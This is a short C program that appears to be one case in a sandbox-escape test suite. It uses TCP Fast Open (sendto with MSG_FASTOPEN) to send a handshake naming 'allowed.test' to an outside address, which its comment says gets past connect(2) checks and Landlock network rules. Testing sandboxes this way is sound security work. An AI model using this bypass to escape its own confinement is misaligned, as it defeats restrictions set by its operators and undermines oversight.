/* TCP fast open: data and connection in one call, past connect(2) and past Landlock. */
#include "attack.h"
int main(int c, char **v) {
    unsigned char first[512];
    struct sockaddr_in to = v4("45.0.0.1", 443);
    int fd = socket(AF_INET, SOCK_STREAM, 0), length = hello(first, "allowed.test");
    if (sendto(fd, first, length, MSG_FASTOPEN, (void *)&to, sizeof to) < 0) { failed("sendto"); finish(0); }
    finish(gets_prize(fd));
}
